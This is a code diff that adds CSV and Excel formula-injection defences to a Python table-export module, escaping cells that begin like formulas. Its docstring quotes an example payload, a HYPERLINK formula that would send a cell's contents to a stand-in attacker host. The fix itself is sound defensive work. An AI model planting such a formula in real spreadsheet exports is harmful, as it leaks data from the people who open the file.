@@ -1,4 +1,10 @@
-"""Writing tables as JSON, CSV or a terminal table: the CLI's three formats, from the same rows."""
+"""Writing tables as JSON, CSV, Excel or a terminal table: the CLI's formats and the pages' downloads, from
+the same rows.
+
+No text from a school's files is ever written where a spreadsheet would run it (OWASP, "CSV Injection"): a
+surname such as `=HYPERLINK("http://evil.example/?leak="&A2,"Click")` is an Excel string cell, and in CSV
+begins with a `'`, the prefix OWASP recommends, so a spreadsheet shows it as the text it is.
+"""
 
 from __future__ import annotations
 
@@ -21,13 +27,36 @@ def write_json(data: Any, stream: TextIO | None = None) -> None:
     stream.write("\n")
 
 
-def write_csv(rows: Sequence[Mapping[str, Any]], stream: TextIO | None = None) -> None:
-    if not rows:
+#: What a cell's text may start with for a spreadsheet to read it as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def inert(value: Any) -> Any:
+    """A CSV cell's value as no spreadsheet evaluates it: text that starts as a formula does gets a leading
+    `'`; numbers, dates and any other text are as they were, a number written as text (-1.5) too, and a
+    lone sign (the register's "-" for no mark), which is no formula."""
+    if (
+        isinstance(value, str)
+        and value.startswith(FORMULA_STARTS)
+        and (len(value) > 1 or value == "=")
+        and not _NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
+
+
+def write_csv(
+    rows: Sequence[Mapping[str, Any]], stream: TextIO | None = None, columns: Sequence[str] | None = None
+) -> None:
+    """The rows as CSV under a heading row: `columns`, or else every row's keys (nothing for no rows). Lines
+    end CRLF, as RFC 4180 has them, so that a cell holding a line break (\\r too) is quoted."""
+    if not rows and columns is None:
         return
-    columns = _columns(rows)
-    writer = csv.DictWriter(stream or sys.stdout, fieldnames=columns, lineterminator="\n")
+    columns = list(columns) if columns is not None else _columns(rows)
+    writer = csv.DictWriter(stream or sys.stdout, fieldnames=columns, lineterminator="\r\n")
     writer.writeheader()
-    writer.writerows(rows)
+    writer.writerows({column: inert(value) for column, value in row.items()} for row in rows)
 
 
 def write_xlsx(rows: Sequence[Mapping[str, Any]], stream: BinaryIO, title: str = "Report") -> None:
@@ -47,6 +76,9 @@ def write_xlsx(rows: Sequence[Mapping[str, Any]], stream: BinaryIO, title: str =
     sheet.freeze_panes = "A2"
     for row in rows:
         sheet.append([row.get(column) for column in columns])
+        for cell in sheet[sheet.max_row]:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"  # openpyxl makes text starting "=" a formula: it is text
     book.save(stream)
 
 
